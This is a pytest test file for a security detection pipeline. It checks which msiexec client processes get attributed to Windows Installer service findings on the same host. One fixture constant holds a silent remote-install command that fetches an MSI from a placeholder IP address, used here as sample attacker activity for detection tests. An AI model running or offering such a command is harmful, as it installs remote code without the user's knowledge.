"""The client of the installer's service: who is told beside a finding, and who is not."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from pyspark.sql import SparkSession

from procnet.attribution.lifetimes import host_key
from procnet.contract import FINDINGS, PROCESS_EVENTS
from procnet.findings.related import with_clients
from procnet.types import HostMatch

NOON = datetime(2026, 3, 1, 12, tzinfo=timezone.utc)
URL = "msiexec.exe /q /i http://192.0.2.7/a.msi"
SERVICE = {
    "host": "ws.corp.example",
    "process_id": 1952,
    "process_name": "msiexec.exe",
    "process": r"C:\w\msiexec.exe /V",
}

pytestmark = pytest.mark.spark


def start(before: float, process_id: int | None, line: str | None = URL, **values: Any) -> dict[str, Any]:
    at = {"event_time": NOON - timedelta(seconds=before), "event_kind": "start", "host": "WS.other".lower()}
    return {**at, "process_id": process_id, "process_name": "msiexec.exe", "command_line": line, **values}


# Starts on the host of a finding of the service at noon -> the ids of the clients that are told.
CASES: dict[str, tuple[dict[str, Any], list[dict[str, Any]], list[int] | None]] = {
    "a client with the URL": ({}, [start(4, 3880)], [3880]),
    "a minute before, and more": ({}, [start(60, 1), start(60.000001, 2)], [1]),
    "after the connection": ({}, [start(-0.000001, 1)], None),
    "the service itself, and its servers": (
        {}, [start(4, 1952), start(4, 5, '"C:\\w\\msiexec.exe" /V'), start(3, 6, "MsiExec.exe -Embedding AB C")], None),
    "another program": ({}, [start(4, 1, process_name="cmd.exe")], None),
    "another host": ({}, [start(4, 1, host="ws-2")], None),
    "an end": ({}, [start(4, 1, event_kind="end")], None),
    "of no id": ({}, [start(4, None)], None),
    "a client with an unknown command line": ({}, [start(4, 1, None)], [1]),
    "/VERYSILENT is no service": ({}, [start(4, 1, "msiexec /VERYSILENT")], [1]),
    "two sensors' records of one": ({}, [start(4, 1, None), start(3, 1, process_guid="G")], [1]),
    "the earliest first, five at most": ({}, [start(n, n) for n in (7, 3, 5, 4, 6, 2)], [6, 5, 4, 3, 2]),
    "a finding of no service": ({"process": URL}, [start(4, 1)], None),
    "a finding whose command line is unknown": ({"process": None}, [start(4, 1)], None),
    "a finding of another program": ({"process_name": "a.exe"}, [start(4, 1)], None),
}  # fmt: skip


@pytest.fixture(scope="module")
def told(spark: SparkSession) -> dict[str, Any]:
    """Every case on a host of its own, all in one job."""
    findings, starts = [], []
    for n, (name, (changes, on_host, _)) in enumerate(CASES.items()):
        finding = {**SERVICE, "finding_id": name, "event_time": NOON, **changes, "host": f"{n}{SERVICE['host']}"}
        findings.append(tuple(finding.get(c) for c in FINDINGS.names))
        starts += [tuple({**s, "host": f"{n}{s['host']}"}.get(c) for c in PROCESS_EVENTS.names) for s in on_host]
    frames = spark.createDataFrame(findings, FINDINGS), spark.createDataFrame(starts, PROCESS_EVENTS)
    rows = with_clients(*frames, host_key=lambda host: host_key(host, HostMatch.SHORT)).collect()
    assert len(rows) == len(CASES)
    return {r["finding_id"]: r["related"] for r in rows}


@pytest.mark.parametrize("case", CASES)
def test_clients(told: dict[str, Any], case: str) -> None:
    expected = CASES[case][2]
    found = told[case]
    assert (None if found is None else [c["process_id"] for c in found]) == expected
    assert {c["role"] for c in found or ()} <= {"client"}


def test_what_is_told_of_a_client(told: dict[str, Any]) -> None:
    (client,) = told["a client with the URL"]
    assert (client["process"], client["process_name"]) == (URL, "msiexec.exe")
    (fuller,) = told["two sensors' records of one"]
    assert (fuller["process_guid"], fuller["process"]) == ("G", URL)
